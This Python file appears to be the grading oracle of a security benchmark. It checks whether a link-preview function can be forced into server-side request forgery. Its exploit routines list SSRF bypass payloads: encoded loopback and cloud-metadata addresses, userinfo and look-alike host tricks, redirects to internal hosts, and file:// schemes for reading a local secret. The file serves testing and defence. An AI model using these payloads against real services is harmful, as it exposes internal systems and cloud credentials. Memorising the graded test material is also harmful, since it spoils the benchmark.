"""Can a link make the program ask a server that it has no business with? Listeners stand for the two sites, for the
company's intranet, for a service on the machine itself and for the cloud's metadata address; an attack has worked when
a request arrived where no preview leads, or when a local file's title came back."""

from __future__ import annotations

from collections.abc import Iterable

from weighbridge.tasks.oracle import App, Proof, exploit, mark, told, works

DOCS, BLOG = "10.20.0.11", "10.20.0.12"
INTRANET, METADATA, OWN = "10.20.0.20", "169.254.169.254", "127.0.0.1"
SECRET = "/srv/data/secret.html"
PATIENCE = 12.0


def seed(nonce: str) -> dict[str, bytes | None]:
    return {SECRET: page(nonce)}


def page(title: str) -> bytes:
    return f"<!DOCTYPE html>\n<html><head><title>{title}</title></head><body><h1>Hello</h1></body></html>\n".encode()


def functional(app: App) -> None:
    docs, blog = f"Getting started {mark(app.nonce, 'docs')}", f"News {mark(app.nonce, 'blog')}"
    app.listen(DOCS, 80, page(docs), "text/html; charset=utf-8")
    app.listen(BLOG, 80, page(blog), "text/html; charset=utf-8")
    for url, title in (
        ("http://northwind-docs.example/guide/start.html", docs),
        ("http://northwind-blog.example/2024/news?page=2", blog),
        ("http://northwind-docs.example/", docs),
    ):
        found = app.call("preview", url, timeout=PATIENCE)
        works(isinstance(found, str) and found.strip() == title, f"preview({url!r}) returns {title!r}, not {found!r}")
    for url in ("http://weather.example/today", "http://northwind-docs.example:8099/nobody-listens"):
        found = app.call("preview", url, timeout=PATIENCE)
        works(found is None, f"preview({url!r}) returns None, not {found!r}")


def _elsewhere(app: App, urls: Iterable[str]) -> Proof | None:
    """Whether one of the links makes a request arrive at the intranet, at the machine itself or at the metadata."""
    for address, port in ((INTRANET, 80), (INTRANET, 8080), (METADATA, 80), (OWN, 80), (OWN, 8500)):
        app.listen(address, port, page(app.nonce), "text/html")
    for url in urls:
        app.attempt("preview", url, timeout=PATIENCE)
        for one in app.received():
            if one.raw and one.address in (INTRANET, METADATA, OWN):
                line = one.raw.split(b"\r\n")[0][:100].decode("latin-1")
                return Proof(918, app.asked[-1], f"a request arrived at {one.address}:{one.port}: {line}")
    return None


@exploit(cwe=918)
def exploit_other_host(app: App) -> Proof | None:
    hosts = (f"{OWN}:8500", "intranet.example", f"{METADATA}", f"{INTRANET}:8080", "localhost:8500")
    return _elsewhere(app, [f"http://{host}/{mark(app.nonce, 'path')}" for host in hosts])


@exploit(cwe=918)
def exploit_other_spelling_of_an_address(app: App) -> Proof | None:
    loopback = ("2130706433", "0x7f000001", "0177.0.0.1", "127.1", "0", "0.0.0.0", "[::ffff:127.0.0.1]", "127.0.0.1.")
    metadata = ("2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "[::ffff:169.254.169.254]", "metadata.example")
    urls = [f"http://{host}:8500/v1/kv" for host in loopback] + [
        f"http://{host}/latest/meta-data/" for host in metadata
    ]
    return _elsewhere(
        app, [*urls, "http://INTRANET.example/", "http://intranet.example./", "http:/\\intranet.example/"]
    )


@exploit(cwe=918)
def exploit_similar_host(app: App) -> Proof | None:
    hosts = ("northwind-docs.example.evil.example", "evilnorthwind-docs.example", "northwind-docs.example-cdn.example")
    return _elsewhere(app, [f"http://{host}/" for host in hosts] + [f"http://{host}:8080/start" for host in hosts])


@exploit(cwe=918)
def exploit_user_before_host(app: App) -> Proof | None:
    docs = "northwind-docs.example"
    users = (docs, f"{docs}:80", f"{docs}:x", f"{docs}/", f"{docs}%20", "northwind-blog.example")
    urls = [f"http://{user}@{host}/" for user in users for host in ("intranet.example", OWN, f"{INTRANET}:8080")]
    urls += [f"http://intranet.example{between}@{docs}/" for between in ("\\", "/", "#", "?", "%2f", "\t")]
    return _elsewhere(app, urls)


@exploit(cwe=918)
def exploit_site_named_elsewhere(app: App) -> Proof | None:
    places = ("?next=http://northwind-docs.example/", "northwind-docs.example/", "#http://northwind-docs.example/")
    places += ("http://northwind-docs.example/", "?northwind-blog.example", ";northwind-docs.example")
    return _elsewhere(app, [f"http://intranet.example/{place}" for place in places])


def _redirected(app: App, status: str, location: str, between: bool = False) -> Proof | None:
    onward = ("302 Found", "http://northwind-blog.example/onward") if between else (status, location)
    app.listen(DOCS, 80, b"moved", "text/html", status=onward[0], location=onward[1])
    app.listen(BLOG, 80, b"moved", "text/html", status=status, location=location)
    proof = _elsewhere(app, ["http://northwind-docs.example/old-page"])
    if proof is None:
        return None
    hops = "by way of the other site " if between else ""
    return Proof(918, f"{proof.attack}, where the page redirects {hops}to {location} ({status})", proof.observed)


@exploit(cwe=918)
def exploit_redirect_to_intranet(app: App) -> Proof | None:
    return _redirected(app, "302 Found", "http://intranet.example/hidden")


@exploit(cwe=918)
def exploit_redirect_to_own_machine(app: App) -> Proof | None:
    return _redirected(app, "307 Temporary Redirect", f"//{OWN}:8500/northwind-docs.example")


@exploit(cwe=918)
def exploit_redirect_to_similar_host(app: App) -> Proof | None:
    return _redirected(
        app, "301 Moved Permanently", "http://northwind-docs.example.evil.example/northwind-docs.example"
    )


@exploit(cwe=918)
def exploit_second_redirect(app: App) -> Proof | None:
    return _redirected(app, "302 Found", "http://intranet.example/hidden", between=True)


@exploit(cwe=918)
def exploit_local_file(app: App) -> Proof | None:
    hosts = ("", "localhost", "northwind-docs.example", "127.0.0.1")
    urls = [f"{scheme}://{host}{SECRET}" for scheme in ("file", "FILE", "local_file", "url:file") for host in hosts]
    urls += [f"file:{SECRET}", f"file://{SECRET}#http://northwind-docs.example/", f"{SECRET}", f"file:/{SECRET}"]
    urls += [f"file://{SECRET}?northwind-docs.example"]
    for url in urls:
        if app.nonce in told(app.attempt("preview", url, timeout=PATIENCE)):
            return Proof(918, app.asked[-1], f"the title of the local file {SECRET} came back")
    return None
